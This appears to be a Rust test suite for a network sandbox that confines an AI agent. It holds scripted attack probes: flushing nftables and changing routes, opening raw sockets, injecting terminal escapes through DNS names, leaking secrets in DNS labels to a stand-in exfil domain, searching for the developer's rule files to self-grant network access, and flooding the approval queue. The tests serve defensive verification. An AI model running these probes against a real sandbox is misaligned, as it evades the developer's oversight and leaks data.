/// Attack: take the policy into the agent's own hands — add routes and a default route, add
/// an address, delete the default route, add a policy rule, a dummy link, enable forwarding,
/// flush nftables — then try the private test host again. Expected: every change refused, and
/// the private host still refused afterwards while the public one answers.
#[test]
fn the_sandbox_cannot_change_routes_addresses_links_or_rules() {
    let dev = Dev::get();
    let hosts = TestHosts::create();
    wait_answering(&[PUBLIC, PRIVATE[0]]);
    let ws = dev.workspace("routes");
    let changes = [
        ("route", "ip route add 10.99.0.0/24 dev lo"),
        ("defaultdel", "ip route del default"),
        ("defaultadd", "ip route add default via 10.0.2.2 metric 1"),
        ("addr", "ip addr add 10.99.0.77/24 dev lo"),
        ("rule", "ip rule add from all lookup 100"),
        ("link", "ip link add lzt0 type dummy"),
        ("forward", "echo 1 > /proc/sys/net/ipv4/ip_forward"),
        ("nft", "nft flush ruleset"),
    ];
    let mut script = String::new();
    for (tag, cmd) in changes {
        script.push_str(&format!(
            "( {cmd} ) 2>/dev/null && echo {tag}=changed || echo {tag}=refused; "
        ));
    }
    script.push_str(&probes(PRIVATE[0]));
    script.push_str(&format!(
        "curl -sS -m 5 -o /dev/null http://{PUBLIC}:{PORT}/ 2>/dev/null && echo public=open || echo public=refused"
    ));
    let r = ws.run(&["sh", "-c", &script]);
    assert_eq!(r.code, Some(0), "{r:?}");
    let mut want: Vec<String> = changes
        .iter()
        .map(|(t, _)| format!("{t}=refused"))
        .collect();
    want.extend(verdicts(PRIVATE[0], "refused"));
    want.push("public=open".into());
    assert_eq!(lines(&r), want, "{r:?}");
    ws.assert_nothing_left();
    drop(hosts);
}

/// Attack: open raw and packet sockets (`SOCK_RAW` ICMP and `IPPROTO_RAW`, `AF_PACKET`) to
/// forge packets below the policy's view. Expected: each fails with EPERM (blocked), not a
/// socket; CAP_NET_RAW and CAP_NET_ADMIN are not held.
#[test]
fn raw_and_packet_sockets_cannot_be_opened() {
    let dev = Dev::get();
    let ws = dev.workspace("rawsock");
    put(
        &ws,
        "raw.py",
        "import socket, errno, re\n\
         for tag, fam, typ, proto in [(\"icmp\", socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),\n\
                                      (\"ipraw\", socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW),\n\
                                      (\"packet\", socket.AF_PACKET, socket.SOCK_RAW, 0x0300)]:\n\
         \x20   try:\n\
         \x20       socket.socket(fam, typ, proto); print(tag + \"=opened\")\n\
         \x20   except OSError as e:\n\
         \x20       print(tag + \"=\" + errno.errorcode.get(e.errno, str(e.errno)))\n\
         c = int(re.search(r\"CapEff:\\s*(\\w+)\", open(\"/proc/self/status\").read()).group(1), 16)\n\
         print(\"netcaps=\" + (\"none\" if c & (1 << 12 | 1 << 13) == 0 else \"present\"))\n",
    );
    let r = ws.run(&["python3", "/workspace/raw.py"]);
    assert_eq!(r.code, Some(0), "{r:?}");
    let got = lines(&r);
    assert_eq!(got.len(), 4, "{r:?}");
    for line in &got[..3] {
        let (_, verdict) = line.split_once('=').unwrap_or(("", ""));
        assert!(
            [
                "EPERM",
                "EACCES",
                "EAFNOSUPPORT",
                "ESOCKTNOSUPPORT",
                "EPROTONOSUPPORT"
            ]
            .contains(&verdict),
            "a raw socket was not refused as blocked: {line} ({r:?})"
        );
    }
    assert_eq!(got[3], "netcaps=none", "{r:?}");
    ws.assert_nothing_left();
}

/// Attack: ask the sidecar for names made of terminal escapes — OSC 52 (set the host
/// clipboard), `ESC[2J` (clear the screen), a bidi override — so that the developer's
/// `lazaret net denials` writes them to the host terminal. Expected: the human listing holds no
/// control byte and shows the names escaped; `--json` is valid JSON with the same escaped text.
/// (Default deny refuses the names before any upstream is asked: no test host needed.)
#[test]
fn escapes_in_a_denied_name_are_shown_escaped_by_net_denials() {
    let dev = Dev::get();
    let ws = dev.workspace("denial-escapes").with_profile(
        "esc",
        &profile(
            "esc",
            "allow_names = [\"allowed.test\"]\ndefault = \"deny\"\n",
        ),
    );
    put(
        &ws,
        "ask.py",
        &format!(
            "{RAW_DNS}\
ask(\"osc52\", [b\"\\x1b]52;c;ZXZpbA==\\x07\", b\"test\"])
ask(\"clear\", [b\"\\x1b[2J\\x1b[H\", b\"test\"])
ask(\"bidi\", [\"\\u202egnp.exe\".encode(), b\"test\"])
"
        ),
    );
    let r = ws.run(&["sh", "-c", "python3 /workspace/ask.py; sleep 1.5"]);
    assert_eq!(r.code, Some(0), "{r:?}");
    assert_eq!(lines(&r), ["osc52=5/0", "clear=5/0", "bidi=5/0"], "{r:?}");
    let human = ws.lazaret(&["net", "denials", "--profile", "esc"]);
    assert_eq!(human.code, Some(0), "{human:?}");
    assert!(
        !human.stdout.chars().any(|c| (c.is_control() && c != '\n')
            || ('\u{2066}'..='\u{2069}').contains(&c)
            || ('\u{202a}'..='\u{202e}').contains(&c)),
        "a control character reached the terminal: {:?}",
        human.stdout
    );
    // DNS presentation form: lower case, every byte but `a-z 0-9 - _` as `\DDD`.
    for shown in ["\\027\\09352\\059c", "\\027\\0912j", "\\226\\128\\174gnp"] {
        assert!(
            human.stdout.to_ascii_lowercase().contains(shown),
            "{shown} not shown: {}",
            human.stdout
        );
    }
    let d = denials(&ws, Some("esc"));
    let names: Vec<&str> = d.iter().filter_map(|e| e["name"].as_str()).collect();
    assert!(
        names.iter().any(|n| n.starts_with("\\027\\09352\\059c")),
        "{names:?}"
    );
    assert!(
        names.iter().all(|n| !n.chars().any(char::is_control)),
        "{names:?}"
    );
    ws.assert_nothing_left();
}

/// Attack (issue #17 item 7): smuggle data out in the labels of a denied name under
/// `default = "deny"`, spelled so a naive matcher misses the deny rule — upper case, a trailing
/// dot, a NUL ending the secret's label, a 63-byte label, a name one byte short of 255 — and
/// an over-long label that a lenient parser might pass on. Expected: every query is answered by
/// the sidecar itself (REFUSED, or FORMERR for what is not DNS) and no secret reaches the
/// test's resolver; the plain allowed name (the control) does.
#[test]
fn denied_names_in_any_spelling_never_reach_the_upstream_resolver() {
    let dev = Dev::get();
    let hosts = TestHosts::create();
    wait_answering(&[PUBLIC]);
    let ws = dev.workspace("exfil-spellings").with_profile(
        "exfil",
        &profile(
            "exfil",
            &format!(
                "resolvers = [\"{RESOLVER}\"]\nallow_names = [\"allowed.test\"]\n\
                 deny_names = [\"*.exfil.test\"]\ndefault = \"deny\"\n"
            ),
        ),
    );
    let long = "s".repeat(63);
    put(
        &ws,
        "ask.py",
        &format!(
            "{RAW_DNS}\
ask(\"upper\", [b\"SECRETUPPER\", b\"X\", b\"EXFIL\", b\"TEST\"])
ask(\"mixed\", [b\"secretMixed\", b\"eXfIl\", b\"tEsT\"])
ask(\"nul\", [b\"secretnul\\x00\", b\"exfil\", b\"test\"])
ask(\"long\", [b\"{long}\", b\"exfil\", b\"test\"])
ask(\"toolong\", [b\"secrettoolong\" + b\"t\" * 60, b\"exfil\", b\"test\"])
ask(\"max\", [b\"secretmax\" + b\"m\" * 54] + [b\"m\" * 63] * 2 + [b\"m\" * 50, b\"exfil\", b\"test\"])
ask(\"control\", [b\"allowed\", b\"test\"])
"
        ),
    );
    let script = "python3 /workspace/ask.py; \
         getent hosts secretdot.x.exfil.test. >/dev/null && echo dot=resolved || echo dot=unresolved; \
         getent hosts SECRETGETENT.Exfil.Test >/dev/null && echo getent=resolved || echo getent=unresolved";
    let r = ws.run(&["sh", "-c", script]);
    assert_eq!(r.code, Some(0), "{r:?}");
    assert_eq!(
        lines(&r),
        [
            "upper=5/0",
            "mixed=5/0",
            "nul=5/0",
            "long=5/0",
            "toolong=1/0",
            "max=5/0",
            "control=0/1",
            "dot=unresolved",
            "getent=unresolved"
        ],
        "{r:?}"
    );
    let asked = hosts.names_asked().to_ascii_lowercase();
    assert!(asked.contains("allowed.test"), "{asked}");
    assert!(
        !asked.contains("secret") && !asked.contains(&long),
        "a secret went upstream: {asked}"
    );
    ws.assert_nothing_left();
    drop(hosts);
}

/// Issue #17 item 6: a refusal the agent can understand. A connection the policy refuses
/// fails at once — TCP with a reset (curl's "couldn't connect", exit 7, not a timeout, 28),
/// UDP with an error on the send (or an ICMP error the socket reports) — and a refused name is answered REFUSED with no
/// records at all (no TXT or other text the sandbox could be fed).
#[test]
fn refusals_are_immediate_and_say_refused() {
    let dev = Dev::get();
    let hosts = TestHosts::create();
    wait_answering(&[PRIVATE[0]]);
    let ws = dev.workspace("refusals").with_profile(
        "refusals",
        &profile(
            "refusals",
            &format!("resolvers = [\"{RESOLVER}\"]\ndeny_names = [\"denied.test\"]\n"),
        ),
    );
    put(
        &ws,
        "refused.py",
        &format!(
            "{RAW_DNS}\
import errno, socket, time
t = time.monotonic()
try:
    socket.create_connection((\"{addr}\", {PORT}), 10)
    print(\"tcp=open\")
except socket.timeout:
    print(\"tcp=timeout\")
except ConnectionRefusedError:
    print(\"tcp=refused\" if time.monotonic() - t < 2 else \"tcp=slow\")
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.settimeout(10)
u.connect((\"{addr}\", {PORT}))
t = time.monotonic()
try:
    u.send(b\"x\")
    u.recv(64)
    print(\"udp=answered\")
except socket.timeout:
    print(\"udp=timeout\")
except OSError as e:
    print(\"udp=\" + errno.errorcode.get(e.errno, str(e.errno)) if time.monotonic() - t < 2 else \"udp=slow\")
ask(\"dns\", [b\"denied\", b\"test\"])
",
            addr = PRIVATE[0]
        ),
    );
    let r = ws.run(&[
        "sh",
        "-c",
        &format!(
            "python3 /workspace/refused.py; curl -sS -m 10 -o /dev/null http://{}:{PORT}/ 2>/dev/null; echo curl=$?",
            PRIVATE[0]
        ),
    ]);
    assert_eq!(r.code, Some(0), "{r:?}");
    let got = lines(&r);
    assert_eq!(got[0], "tcp=refused", "{r:?}");
    // The send itself fails (the reject in the sidecar's output hook: EPERM), or the ICMP
    // error reaches the socket.
    assert!(
        ["udp=EPERM", "udp=EHOSTUNREACH", "udp=ECONNREFUSED"].contains(&got[1].as_str()),
        "an immediate error, not a wait: {r:?}"
    );
    assert_eq!(got[2], "dns=5/0", "REFUSED, no records: {r:?}");
    assert_eq!(
        got[3], "curl=7",
        "couldn't connect, not a timeout (28): {r:?}"
    );
    ws.assert_nothing_left();
    drop(hosts);
}

/// Attack (issue #17): the agent looks for the controls the developer steers its network with
/// — the run's allow rules, their acknowledgement, the denial ledger — to write its own rules,
/// and tries to reach the port the developer published on the host from inside, through the
/// host's loopback (slirp4netns' gateway) and the sandbox's own. Expected: none of the files
/// exists anywhere in the sandbox; the published port answers on the host only; the gateway is
/// refused (and recorded), the sandbox's own loopback has nothing there.
#[test]
fn the_run_rules_are_out_of_reach_and_a_published_port_does_not_lead_back_in() {
    let dev = Dev::get();
    let ws = dev.workspace("steer-attack");
    let host_port = std::net::TcpListener::bind("127.0.0.1:0")
        .and_then(|l| l.local_addr())
        .map(|a| a.port())
        .expect("a free port");
    put(
        &ws,
        "probe.sh",
        &format!(
            "found=$(find / -xdev \\( -name run-rules.json -o -name run-rules.applied -o -name 'denials*.jsonl' \\) 2>/dev/null | head -3); \
             echo files=${{found:-none}}; \
             python3 -m http.server 8000 --bind 127.0.0.1 --directory /workspace >/dev/null 2>&1 & \
             while [ ! -e /workspace/.published ]; do sleep 0.1; done; \
             curl -sS -m 5 -o /dev/null http://10.0.2.2:{host_port}/ 2>/dev/null && echo gateway=open || echo gateway=refused; \
             curl -sS -m 5 -o /dev/null http://127.0.0.1:{host_port}/ 2>/dev/null && echo own=open || echo own=refused; \
             kill $!; sleep 1.5"
        ),
    );
    let session = ws.spawn(&["sh", "/workspace/probe.sh"]);
    let published = wait_for(Duration::from_secs(60), || {
        let r = ws.lazaret(&["port", "publish", &format!("{host_port}:8000")]);
        (r.code == Some(0)).then_some(())
    });
    assert!(published.is_some(), "the port was published");
    // Control: the published port answers on the host.
    let answered = wait_for(Duration::from_secs(30), || {
        std::net::TcpStream::connect(("127.0.0.1", host_port))
            .ok()
            .map(|_| ())
    });
    assert!(answered.is_some(), "the published port answers on the host");
    let mark = ws.path.join(".published");
    std::fs::write(&mark, "").expect("mark");
    let _ = nix::unistd::chown(&mark, Some(nix::unistd::Uid::from_raw(dev.uid)), None);
    let r = support::finish(session);
    assert_eq!(r.code, Some(0), "{r:?}");
    assert_eq!(
        lines(&r),
        ["files=none", "gateway=refused", "own=refused"],
        "{r:?}"
    );
    let d = denials(&ws, None);
    assert!(
        d.iter()
            .any(|e| e["address"] == "10.0.2.2" && e["port"] == host_port),
        "the gateway attempt is in the ledger: {d:?}"
    );
    ws.assert_nothing_left();
}

/// Attack (issue #17, `default = "ask"`): flood the developer with questions — 100 new
/// destinations at once, a private host, and DNS names shaped like a wildcard or an address
/// (allowing what the held list would show would open a whole domain or every port of an
/// address). Expected: at most 64 destinations are held (the policy's set is full; the rest
/// are refused at once, as under `deny`), the private host is refused, not held, the
/// wildcard- and address-shaped names are refused, not held, and none reaches the resolver.
#[test]
fn asking_cannot_be_flooded_or_tricked_into_a_wider_allow() {
    let dev = Dev::get();
    let hosts = TestHosts::create();
    wait_for(Duration::from_secs(10), || host_fetch(PUBLIC).then_some(()))
        .expect("the public test host answers from the host");
    let ws = dev.workspace("ask-flood").with_profile(
        "asker",
        &profile(
            "asker",
            &format!("resolvers = [\"{RESOLVER}\"]\ndefault = \"ask\"\nask_timeout = 600\n"),
        ),
    );
    put(
        &ws,
        "flood.py",
        &format!(
            r#"{RAW_DNS}
import errno, os, select, time
socks = []
for port in range(21000, 21100):
    s = socket.socket(); s.setblocking(False)
    s.connect_ex(("{PUBLIC}", port)); socks.append(s)
p = socket.socket(); p.setblocking(False); p.connect_ex(("{private}", {PORT}))
time.sleep(4)
def state(s):
    e = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
    return "refused" if e == errno.ECONNREFUSED else ("pending" if e == 0 else "error%d" % e)
states = [state(s) for s in socks]
print("refused=%d" % states.count("refused"))
print("pending=%d" % states.count("pending"))
print("private=%s" % state(p))
ask("wildcard", [b"*", b"test"])
ask("address", [b"198", b"51", b"100", b"1"])
open("/workspace/.flooded.tmp", "w").write("done")
os.rename("/workspace/.flooded.tmp", "/workspace/flooded")
while not os.path.exists("/workspace/go"):
    time.sleep(0.1)
"#,
            private = PRIVATE[0]
        ),
    );
    let session = ws.spawn(&["python3", "/workspace/flood.py"]);
    wait_for(Duration::from_secs(120), || {
        ws.path.join("flooded").exists().then_some(())
    })
    .expect("the flood ran");
    let r = ws.lazaret(&["net", "held", "--json", "--profile", "asker"]);
    assert_eq!(r.code, Some(0), "{r:?}");
    let v: serde_json::Value = serde_json::from_str(&r.stdout).expect("JSON");
    let held: Vec<String> = v["held"]
        .as_array()
        .into_iter()
        .flatten()
        .map(|h| h["target"].as_str().unwrap_or("").to_owned())
        .collect();
    put(&ws, "go", "");
    let out = session.wait_with_output().expect("the session ends");
    let stdout = String::from_utf8_lossy(&out.stdout).to_string();
    let got: Vec<&str> = stdout.lines().collect();
    assert_eq!(held.len(), 64, "held: {held:?}");
    assert!(
        held.iter().all(|t| t.starts_with(&format!("{PUBLIC}:21"))),
        "only the public destinations are held: {held:?}"
    );
    assert!(got.contains(&"refused=36"), "{stdout}");
    assert!(got.contains(&"pending=64"), "{stdout}");
    assert!(got.contains(&"private=refused"), "{stdout}");
    assert!(got.contains(&"wildcard=5/0"), "REFUSED at once: {stdout}");
    assert!(got.contains(&"address=5/0"), "REFUSED at once: {stdout}");
    let asked = hosts.names_asked();
    assert!(
        !asked.contains("*.test") && !asked.contains("198.51.100.1"),
        "{asked}"
    );
    let why: Vec<String> = denials(&ws, Some("asker"))
        .iter()
        .filter(|d| d["protocol"] == "dns")
        .map(|d| d["rule"].as_str().unwrap_or("").to_owned())
        .collect();
    assert!(
        why.iter()
            .filter(|r| r.contains("not a plain host name"))
            .count()
            == 2,
        "{why:?}"
    );
}

/// The sandbox's probes of the name `allowed.test` (issue #31): TCP to [`PORT`] and to
/// [`PORT2`] (both served by the public test host) and a UDP datagram to [`PORT`] (echoed),
/// one line each: `tcp1=`, `tcp2=`, `udp=` with `open` or `refused`.
fn name_probes() -> String {
    let url = |port: u16| format!("http://allowed.test:{port}/");
    format!(
        "curl -sS -m 5 -o /dev/null {u1} 2>/dev/null && echo tcp1=open || echo tcp1=refused; \
         curl -sS -m 5 -o /dev/null {u2} 2>/dev/null && echo tcp2=open || echo tcp2=refused; \
         python3 -c 'import socket; u=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(3); u.sendto(b\"x\", (\"allowed.test\", {PORT})); assert u.recv(64) == b\"echo:x\"' 2>/dev/null && echo udp=open || echo udp=refused; ",
        u1 = url(PORT),
        u2 = url(PORT2),
    )
}

/// The run's allow rules, as `lazaret net rules --json` lists them.
fn run_allows(ws: &TestWorkspace, profile: &str) -> Vec<String> {
    let r = ws.lazaret(&["net", "rules", "--json", "--profile", profile]);
    assert_eq!(r.code, Some(0), "{r:?}");
    let v: serde_json::Value = serde_json::from_str(&r.stdout).expect("JSON");
    v["run"]
        .as_array()
        .into_iter()
        .flatten()
        .map(|r| r["target"].as_str().unwrap_or("").to_owned())
        .collect()
}

/// Attack (issue #31 item 4): the developer allows a name the agent asked for, to reach one
/// service on it (`allowed.test` on tcp/PORT). The agent then uses that allow as an allow of
/// the address: another TCP port of it, and UDP to the allowed port (a tunnel or a second
/// service of whoever steers the name's answers). Expected: `lazaret net allow NAME` alone is
/// refused with the choice spelled out (`NAME:443`, `--any-port`); the narrow form
/// `NAME:PORT` opens the name's answers on tcp/PORT only — the other port and UDP stay refused
/// (and in the ledger) — and says what it opens (the CDN caveat); the wide form
/// (`--any-port`) opens every port and UDP, and revoking it leaves the narrow rule alone; the
/// next run of the Domain begins with none of it.
#[test]
fn a_name_allowed_on_one_port_does_not_open_its_addresses_other_ports_or_udp() {
    let dev = Dev::get();
    let hosts = TestHosts::create();
    wait_for(Duration::from_secs(10), || host_fetch(PUBLIC).then_some(()))
        .expect("the public test host answers from the host");
    let ws = dev.workspace("narrow").with_profile(
        "narrow",
        &profile(
            "narrow",
            &format!("resolvers = [\"{RESOLVER}\"]\ndefault = \"deny\"\n"),
        ),
    );
    let mut script = String::new();
    for phase in ["a", "b", "c", "d"] {
        script.push_str(&format!(
            "{{ {probes} }} > /workspace/.{phase}.tmp; mv /workspace/.{phase}.tmp /workspace/{phase}; \
             while [ ! -e /workspace/go-{phase} ]; do sleep 0.1; done; ",
            probes = name_probes()
        ));
    }
    put(&ws, "narrow.sh", &script);
    let session = ws.spawn(&["sh", "/workspace/narrow.sh"]);
    let phase = |p: &str| -> Vec<String> {
        let path = ws.path.join(p);
        let text = wait_for(Duration::from_secs(120), || {
            std::fs::read_to_string(&path).ok()
        })
        .unwrap_or_else(|| panic!("the session did not report phase {p}"));
        text.lines().map(str::to_owned).collect()
    };
    let go = |p: &str| put(&ws, &format!("go-{p}"), "");
    let expect = |tcp1: &str, tcp2: &str, udp: &str| {
        vec![
            format!("tcp1={tcp1}"),
            format!("tcp2={tcp2}"),
            format!("udp={udp}"),
        ]
    };
    let allow = |args: &[&str]| {
        let mut full = vec!["net", "allow"];
        full.extend_from_slice(args);
        full.extend(["--profile", "narrow"]);
        ws.lazaret(&full)
    };

    // a. The profile's default deny: the name is not even resolved.
    assert_eq!(phase("a"), expect("refused", "refused", "refused"));
    // A name alone is no longer an allow of every port: the developer is asked to choose.
    let alone = allow(&["allowed.test"]);
    assert_eq!(alone.code, Some(2), "{alone:?}");
    for says in ["allowed.test:443", "--any-port", "every port"] {
        assert!(alone.stderr.contains(says), "{says:?} in {alone:?}");
    }
    assert!(run_allows(&ws, "narrow").is_empty());

    // b. The narrow form: the name's answers on tcp/PORT only.
    let narrow = format!("allowed.test:{PORT}");
    let r = allow(&[&narrow]);
    assert_eq!(r.code, Some(0), "{r:?}");
    for says in [
        format!("on tcp/{PORT} only"),
        "other names on those addresses too".to_owned(),
    ] {
        assert!(r.stdout.contains(&says), "{says:?} in {r:?}");
    }
    go("a");
    assert_eq!(phase("b"), expect("open", "refused", "refused"));
    // The ledger is written by the sidecar as the denials come: wait for both.
    let refused = |ledger: &[serde_json::Value], proto: &str, port: u16| {
        ledger.iter().any(|d| {
            d["address"] == PUBLIC
                && d["protocol"] == proto
                && d["port"] == port
                && d["rule"].as_str().unwrap_or("").starts_with("default deny")
        })
    };
    let both = wait_for(Duration::from_secs(20), || {
        let ledger = denials(&ws, Some("narrow"));
        (refused(&ledger, "tcp", PORT2) && refused(&ledger, "udp", PORT)).then_some(())
    });
    assert!(both.is_some(), "{:#?}", denials(&ws, Some("narrow")));
    // What it opened, with the addresses the sidecar answered: `lazaret net rules` says it.
    let rules = ws.lazaret(&["net", "rules", "--profile", "narrow"]);
    assert!(
        rules.stdout.contains(&format!(
            "it allows allowed.test's current addresses ({PUBLIC}) on tcp/{PORT} only"
        )),
        "{rules:?}"
    );

    // c. The wide form, said as such: every port, TCP and UDP.
    let r = allow(&["allowed.test", "--any-port"]);
    assert_eq!(r.code, Some(0), "{r:?}");
    assert!(r.stdout.contains("on every port, TCP and UDP"), "{r:?}");
    go("b");
    assert_eq!(phase("c"), expect("open", "open", "open"));

    // d. Revoking the wide form takes its addresses out; the narrow rule stays in force.
    let r = ws.lazaret(&["net", "revoke", "allowed.test", "--profile", "narrow"]);
    assert_eq!(r.code, Some(0), "{r:?}");
    assert_eq!(run_allows(&ws, "narrow"), [narrow]);
    go("c");
    assert_eq!(phase("d"), expect("open", "refused", "refused"));
    go("d");
    let out = session.wait_with_output().expect("the session ends");
    assert!(out.status.success(), "{out:?}");

    // The next run begins with the profile's policy only: the run's allow ended with its run.
    ws.wait_torn_down();
    let again = ws.run(&["sh", "-c", &name_probes()]);
    assert_eq!(again.code, Some(0), "{again:?}");
    assert_eq!(lines(&again), expect("refused", "refused", "refused"));
    ws.assert_nothing_left();
    drop(hosts);
}
